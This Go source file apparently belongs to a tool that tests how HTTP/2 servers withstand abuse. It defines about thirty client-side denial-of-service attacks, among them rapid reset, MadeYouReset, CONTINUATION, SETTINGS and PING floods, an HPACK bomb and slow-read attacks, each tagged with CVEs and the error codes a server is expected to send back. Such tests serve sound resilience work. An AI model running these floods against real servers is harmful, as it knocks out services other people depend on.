package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// calm is what a flood has to be answered with.
var calm = []http2.ErrCode{http2.ErrCodeEnhanceYourCalm}

// Each invalid frame may be an error of its stream, and many of them a flood; or of the connection at once (RFC 9113, section 5.4.1).
func calmOr(codes ...http2.ErrCode) []http2.ErrCode { return append(codes, calm...) }

// parked is how many streams an attack leaves open, more than any server allows.
const parked = 1000

// largest is the greatest window and the greatest increment of one.
const largest = 1<<31 - 1

// Clients are the attacks from a client.
var Clients = []Client{
	{Name: "rapid reset", Why: "CVE-2023-44487", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WriteRSTStream(c.open(request("GET", Quick), true), http2.ErrCodeCancel)
		}
	}},
	{Name: "rapid reset, held", Why: "CVE-2023-44487", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WriteRSTStream(c.open(request("GET", Hold), true), http2.ErrCodeCancel)
		}
	}},
	madeYouReset("window overflow", calmOr(http2.ErrCodeFlowControl), func(c *Conn, id uint32) { c.WriteWindowUpdate(id, largest) }),
	madeYouReset("zero increment", calmOr(http2.ErrCodeProtocol), func(c *Conn, id uint32) { c.WriteWindowUpdate(id, 0) }),
	madeYouReset("DATA after the end", calmOr(http2.ErrCodeStreamClosed), func(c *Conn, id uint32) { c.WriteData(id, false, []byte("x")) }),
	madeYouReset("HEADERS after the end", calmOr(http2.ErrCodeStreamClosed, http2.ErrCodeProtocol),
		func(c *Conn, id uint32) { c.headers(id, request("GET", Quick), true, true) }),
	madeYouReset("PRIORITY on itself", calmOr(http2.ErrCodeProtocol),
		func(c *Conn, id uint32) { c.WriteRawFrame(http2.FramePriority, 0, id, append(word(id), 0)) }),
	madeYouReset("PRIORITY of four bytes", calmOr(http2.ErrCodeFrameSize),
		func(c *Conn, id uint32) { c.WriteRawFrame(http2.FramePriority, 0, id, word(0)) }),
	{Name: "refused streams", Why: "streams beyond the limit, without end", Codes: calmOr(http2.ErrCodeRefusedStream, http2.ErrCodeProtocol), Opens: true,
		run: func(c *Conn) {
			for c.More() {
				c.open(request("GET", Hold), true)
			}
		}},
	continuations("CONTINUATION flood", bytes.Repeat(literal("x-flood", strings.Repeat("y", 100)), 140)),
	continuations("CONTINUATION flood, small", literal("a", "b")),
	continuations("CONTINUATION flood, empty", nil),
	{Name: "SETTINGS flood", Why: "CVE-2019-9515", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WriteSettings()
		}
	}},
	{Name: "SETTINGS flood, deaf", Why: "CVE-2019-9515", Codes: calm, Endured: true, deaf: true, run: func(c *Conn) {
		for c.More() {
			c.WriteSettings()
		}
	}},
	{Name: "SETTINGS of windows", Why: "each change touches every stream", Codes: calm, run: func(c *Conn) {
		for range 100 {
			c.open(request("GET", Hold), true)
		}
		for i := uint32(0); c.More(); i++ {
			c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000 + i%2})
		}
	}},
	{Name: "SETTINGS of tables", Why: "each change empties the encoder's table", Codes: calm, run: func(c *Conn) {
		for i := uint32(0); c.More(); i++ {
			c.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: i % 2 * 4096})
		}
	}},
	{Name: "PING flood", Why: "CVE-2019-9512", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WritePing(false, [8]byte{})
		}
	}},
	{Name: "PING flood, deaf", Why: "CVE-2019-9512", Codes: calm, Endured: true, deaf: true, run: func(c *Conn) {
		for c.More() {
			c.WritePing(false, [8]byte{})
		}
	}},
	{Name: "empty DATA flood", Why: "CVE-2019-9518", Codes: calm, run: func(c *Conn) {
		id := c.open(request("POST", Hold), false)
		for c.More() {
			c.WriteData(id, false, nil)
		}
	}},
	{Name: "invalid requests", Why: "CVE-2019-9514", Codes: calmOr(http2.ErrCodeProtocol), run: func(c *Conn) {
		for c.More() {
			c.open([]byte{0x82, 0x86}, true) // no :path
		}
	}},
	{Name: "RST_STREAM flood", Why: "of one stream that is closed", Codes: calmOr(http2.ErrCodeStreamClosed), Endured: true, run: func(c *Conn) {
		id := c.open(request("GET", Quick), true)
		for c.More() {
			c.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}},
	{Name: "PRIORITY flood", Why: "CVE-2019-9513", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WritePriority(c.id(), http2.PriorityParam{StreamDep: 0, Weight: 1})
		}
	}},
	{Name: "WINDOW_UPDATE flood", Why: "one byte at a time", Codes: calm, run: func(c *Conn) {
		for c.More() {
			c.WriteWindowUpdate(0, 1)
		}
	}},
	{Name: "unknown frames", Why: "must be passed over", Codes: calm, Endured: true, run: func(c *Conn) {
		for c.More() {
			c.WriteRawFrame(0xfa, 0, 0, nil)
		}
	}},
	{Name: "empty names", Why: "CVE-2019-9516", Codes: calmOr(http2.ErrCodeProtocol, http2.ErrCodeCompression), run: func(c *Conn) {
		block := request("GET", Quick, bytes.Repeat([]byte{0, 0, 0}, 1000)) // a list that is no larger than lists may be
		for c.More() {
			c.open(block, true)
		}
	}},
	{Name: "HPACK bomb", Why: "16 KB that stand for 64 MB", Codes: calmOr(http2.ErrCodeProtocol, http2.ErrCodeCompression), Endured: true,
		run: func(c *Conn) {
			long := append([]byte{0x40, 1, 'x', 0x7f, 0xa1, 0x1e}, bytes.Repeat([]byte{'y'}, 4000)...) // indexed from now on as 62
			c.open(request("GET", Quick, long), true)
			bomb := request("GET", Quick, bytes.Repeat([]byte{0xbe}, 16000))
			for c.More() {
				c.open(bomb, true)
			}
		}},
	{Name: "table size updates", Why: "a block of nothing else", Codes: calmOr(http2.ErrCodeProtocol, http2.ErrCodeCompression), Endured: true,
		run: func(c *Conn) {
			block := append(bytes.Repeat([]byte{0x20}, 16000), request("GET", "/")...) // what is asked for is no attack
			for c.More() {
				c.open(block, true)
			}
		}},
	{Name: "parked streams", Why: "answers that find no window", Codes: calm, Endured: true, Opens: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, run: func(c *Conn) {
			for range parked {
				c.open(request("GET", Big), true)
			}
			c.Wait()
		}},
	{Name: "data dribble", Why: "CVE-2019-9511", Codes: calm, Endured: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, run: func(c *Conn) {
			var ids []uint32
			for range 100 {
				ids = append(ids, c.open(request("GET", Big), true))
			}
			for c.More() {
				for _, id := range ids {
					c.WriteWindowUpdate(id, 1)
				}
			}
		}},
	{Name: "answers not read", Why: "CVE-2019-9517", Codes: calm, Endured: true, deaf: true, Opens: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: largest}}, run: func(c *Conn) {
			c.WriteWindowUpdate(0, largest-65535)
			for range parked {
				c.open(request("GET", Big), true)
			}
			c.Wait()
		}},
	{Name: "unfinished bodies", Why: "one byte of a million", Codes: calm, Endured: true, Opens: true, run: func(c *Conn) {
		for range parked {
			c.WriteData(c.open(request("POST", Hold, literal("content-length", "1000000")), false), false, []byte("x"))
		}
		c.Wait()
	}},
	{Name: "full windows", Why: "bodies that nobody reads", Codes: calm, Endured: true, run: func(c *Conn) {
		piece := make([]byte, 16<<10)
		for i := 0; i < 100 && c.More(); i++ { // beyond the connection's window, which its side may refuse
			id := c.open(request("POST", Hold), false)
			for range 4 {
				c.WriteData(id, false, piece[:16000])
			}
		}
		c.Wait()
	}},
	{Name: "unfinished heads", Why: "a block without its end", Codes: calm, Endured: true, run: func(c *Conn) {
		c.headers(c.id(), request("GET", Quick), true, false)
		c.Wait()
	}},
	{Name: "half prefaces", Why: "a hundred connections that say no more", Endured: true, many: halfPrefaces},
}

// madeYouReset has the victim reset each stream after it has sent the request on (CVE-2025-8671).
func madeYouReset(how string, codes []http2.ErrCode, provoke func(c *Conn, id uint32)) Client {
	return Client{Name: "MadeYouReset, " + how, Why: "CVE-2025-8671", Codes: codes, run: func(c *Conn) {
		for c.More() {
			provoke(c, c.open(request("GET", Hold), true))
		}
	}}
}

// continuations begins a header block and never ends it (CVE-2024-27316, CVE-2023-45288).
func continuations(name string, piece []byte) Client {
	return Client{Name: name, Why: "CVE-2024-27316", Codes: calmOr(http2.ErrCodeProtocol), run: func(c *Conn) {
		id := c.id()
		c.headers(id, request("GET", Quick), true, false)
		for c.More() {
			c.WriteContinuation(id, false, piece)
		}
	}}
}

func halfPrefaces(dial Dial, end time.Time) {
	ctx, cancel := context.WithDeadline(context.Background(), end)
	defer cancel()
	var open []net.Conn
	for range 100 {
		c, err := dial(ctx)
		if err != nil {
			break
		}
		open = append(open, c)
		io.WriteString(c, http2.ClientPreface[:10]) // what becomes of it is the victim's affair
	}
	<-ctx.Done()
	for _, c := range open {
		c.Close()
	}
}
